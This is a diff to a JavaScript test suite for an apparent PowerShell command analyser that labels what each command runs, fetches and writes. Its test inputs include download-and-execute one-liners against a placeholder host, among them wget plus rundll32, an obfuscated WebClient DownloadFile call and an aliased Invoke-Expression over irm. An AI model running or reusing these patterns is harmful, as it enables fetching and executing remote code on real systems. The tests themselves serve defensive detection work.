@@ -90,10 +90,7 @@ describe("readPowerShell: programs", () => {
     ["iwmi Win32_Share Create 'C:\\x'", []],
     [
       "si HKCU:\\Software\\K\\command 'x \"a b\"'",
-      [
-        'Set-ItemProperty -Path HKCU:\\Software\\K\\command -Name (default) -Value "x \\"a b\\""',
-        "writes HKCU:\\Software\\K\\command",
-      ],
+      ['Set-ItemProperty add hkcu\\software\\k\\command /ve /d "x \\"a b\\""', "writes HKCU:\\Software\\K\\command"],
     ],
     ["cmd --% /c echo %PATH% | x", ["cmd /c echo %PATH%", "x"]],
     ["calc > C:\\o.txt 2>&1", ["calc", "writes C:\\o.txt"]],
@@ -119,6 +116,12 @@ describe("readPowerShell: what runs, comes and goes", () => {
       "wget http://h/x.dll -OutFile C:\\x.dll; rundll32 C:\\x.dll,Go",
       ["rundll32 C:\\x.dll Go", "fetches http://h/x.dll", "writes C:\\x.dll"],
     ],
+    [
+      "(New-Object Net.WebClient).('Down'+'loadFile').Invoke('http://h/a','C:\\a')",
+      ["fetches http://h/a", "writes C:\\a"],
+    ],
+    [". (gcm i*x) (irm http://h/a)", ["runs http://h/a"]],
+    ["rp HKLM:\\SOFTWARE\\K -Name v; ri C:\\a.txt", ["Remove-ItemProperty delete hklm\\software\\k /v v"]],
     ["Start-BitsTransfer http://h/a C:\\a", ["fetches http://h/a", "writes C:\\a"]],
     ["Copy-Item \\\\h\\s\\x.dll C:\\x.dll", ["reads \\\\h\\s\\x.dll", "writes C:\\x.dll"]],
     ["Get-Content C:\\x.txt | iex", ["runs C:\\x.txt"]],
